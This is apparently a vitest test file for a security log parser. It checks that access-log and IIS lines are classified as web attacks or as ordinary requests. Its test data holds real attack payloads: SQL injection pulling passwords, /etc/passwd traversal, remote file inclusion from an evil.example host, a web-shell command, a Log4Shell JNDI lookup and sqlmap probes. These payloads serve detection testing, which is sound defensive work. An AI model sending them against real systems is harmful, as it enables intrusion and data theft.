import { describe, expect, it } from "vitest";
import { event } from "./test-support.ts";

// Access lines written by the project (combined format, and IIS W3C extended with its default fields).
const access = (request: string, status = 404, agent = "Mozilla/5.0") =>
  event(`203.0.113.50 - - [02/Jun/2024:10:00:00 +0000] "${request} HTTP/1.1" ${status} 512 "-" "${agent}"`);

describe("web attacks in access logs", () => {
  it.each([
    ["GET /patients?id=1%20UNION%20SELECT%20login,password%20FROM%20users", "sql_injection"],
    ["GET /report?order=if(now()=sysdate(),sleep(5),0)", "sql_injection"],
    ["GET /download?file=../../../../etc/passwd", "path_traversal"],
    ["GET /page.php?inc=http://evil.example/shell.txt", "remote_file_inclusion"],
    ["GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"],
    ["GET /uploads/shell.php?cmd=id", "command_injection"],
    ["GET /x/%0d%0aSet-Cookie:%20a=b", "crlf_injection"],
    ["GET /phpMyAdmin/scripts/setup.php", "admin_probe"],
    ["GET /.git/config", "sensitive_file_probe"],
    ["GET /?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "log4shell"],
  ])("%s is a %s", (request, attackType) => {
    const e = access(request);
    expect(e).toMatchObject({ event_type: "web_attack", attack_type: attackType, source_ip: "203.0.113.50" });
    // Exploitation attempts rate higher than reconnaissance.
    const probe = ["xss", "crlf_injection", "admin_probe", "sensitive_file_probe"].includes(attackType);
    expect(e.severity).toBe(probe ? "medium" : "high");
  });

  it("names scanners by their user agent, and raises the severity of attacks the server answered", () => {
    expect(access("GET /", 200, "Mozilla/5.00 (Nikto/2.1.6)")).toMatchObject({
      attack_type: "scanner",
      severity: "high",
    });
    expect(access("GET /a?id=1%20UNION%20SELECT%20pwd%20FROM%20users", 200)).toMatchObject({
      severity: "critical",
    });
  });

  it("leaves ordinary requests alone", () => {
    for (const request of [
      "GET /index.html",
      "POST /wp-login.php",
      "GET /search?q=select+a+doctor",
      "GET /a.css?v=2",
    ]) {
      expect(access(request, 200)).toMatchObject({ event_type: "http_request" });
    }
  });
});

describe("IIS W3C extended lines", () => {
  it("reads the default field set, with the client address and user agent", () => {
    const e = event(
      "2024-06-02 10:00:00 10.1.0.10 GET /portal/Default.aspx id=12 443 - 198.51.100.77 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 31",
    );
    expect(e).toMatchObject({
      event_type: "http_request",
      source_type: "proxy",
      source_ip: "198.51.100.77",
      url: "/portal/Default.aspx?id=12",
      method: "GET",
      status_code: 200,
      user_agent: "Mozilla/5.0 (Windows NT 10.0)",
      timestamp: "2024-06-02T10:00:00.000Z",
      hostname: "10.1.0.10",
    });
    expect(e.metadata).toMatchObject({ decoder: "iis" });
  });

  it("types attacks in the query", () => {
    expect(
      event(
        "2024-06-02 10:00:01 W3SVC1 WEB01 10.1.0.10 GET /search.aspx q=x';declare%20@c%20cursor;-- 443 - 198.51.100.78 sqlmap/1.7 - 500 0 0 12",
      ),
    ).toMatchObject({
      event_type: "web_attack",
      attack_type: "sql_injection",
      source_ip: "198.51.100.78",
      hostname: "WEB01",
    });
  });
});
